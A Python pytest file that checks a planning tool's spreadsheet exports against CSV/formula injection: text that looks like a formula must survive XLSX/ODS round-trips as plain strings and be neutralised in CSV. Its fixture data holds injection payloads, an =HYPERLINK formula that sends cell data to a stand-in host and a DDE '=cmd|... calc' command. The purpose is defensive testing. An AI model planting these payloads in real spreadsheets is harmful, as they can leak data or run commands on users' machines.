"""The plan's exports hold no formula: a text that looks like one goes out as text and comes
back by import unchanged (XLSX, ODS); the CSV, export-only, neutralises it (OWASP)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest

from macros.data.loader import load_referentiel
from macros.models.plan import Plan
from macros.plan.suivi import suivre
from macros.plan.tableur.ecrire import fichiers
from macros.plan.tableur.importer import plan_depuis_feuilles
from macros.plan.tableur.lire import lire_feuilles

from .conftest import FIXTURES, ROOT, SYNDICAT_TODAY

PIEGES = {
    "texte": '=HYPERLINK("http://exemple.invalid/?d="&A3,"Cliquez ici")',
    "pilote": "+33 1 23 45 67 89",
    "precisions": ["-10 % sur les délais", "@dimanche", "#N/A", "=1+1"],
    "partenaires": ["=cmd|' /C calc'!A0"],
}


def _plan_piege() -> Plan:
    plan = load_referentiel(FIXTURES / "syndicat", ROOT).plan
    data = plan.model_dump(exclude_defaults=True)
    data["axes"][0]["actions"][0].update(PIEGES)
    return Plan.model_validate(data)


def _fichiers(plan: Plan, tmp_path):
    found = {}
    for fichier in fichiers(plan, suivre(plan, date.fromisoformat(SYNDICAT_TODAY)), "piege"):
        (tmp_path / fichier.nom).write_bytes(fichier.contenu)
        found[fichier.nom.rsplit(".", 1)[-1] if "indicateurs" not in fichier.nom else "csv2"] = \
            tmp_path / fichier.nom
    return found


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_a_text_that_looks_like_a_formula_goes_out_and_comes_back_unchanged(tmp_path, suffix):
    plan = _plan_piege()
    path = _fichiers(plan, tmp_path)[suffix]
    again, erreurs = plan_depuis_feuilles(lire_feuilles(path), plan, path.name)
    assert erreurs == []
    assert again == plan
    action = again.axes[0].actions[0]
    assert (action.texte, action.pilote) == (PIEGES["texte"], PIEGES["pilote"])


def test_the_xlsx_has_no_formula_and_no_error_cell(tmp_path):
    path = _fichiers(_plan_piege(), tmp_path)["xlsx"]
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    for sheet in sheets:
        assert "<f>" not in sheet and "<f " not in sheet
        assert 't="e"' not in sheet
    assert "HYPERLINK(" in sheets[0]  # as an inline string


def test_the_ods_writes_every_text_as_a_string_never_a_formula(tmp_path):
    path = _fichiers(_plan_piege(), tmp_path)["ods"]
    with zipfile.ZipFile(path) as archive:
        content = archive.read("content.xml").decode()
    assert "table:formula" not in content
    assert ('<table:table-cell office:value-type="string" table:style-name="cellule"><text:p>'
            "=HYPERLINK(") in content


def test_the_csv_neutralises_each_cell_that_would_start_a_formula(tmp_path):
    path = _fichiers(_plan_piege(), tmp_path)["csv"]
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    head, first = rows[0], rows[1]
    assert first[head.index("Action")] == "'" + PIEGES["texte"]
    assert first[head.index("Pilote")] == "'+33 1 23 45 67 89"
    # a list cell starts with its first item: « -10 % … » is quoted, the next lines are inside
    assert first[head.index("Précisions")].startswith("'-10 % sur les délais\n@dimanche")


def test_a_negative_number_stays_a_number_in_the_csv():
    from macros.plan.tableur.ecrire import texte_csv

    text = texte_csv([["Valeur", "Texte"], [-3.5, "-3,5"]]).decode("utf-8-sig")
    assert text.splitlines()[1] == "-3,5;'-3,5"
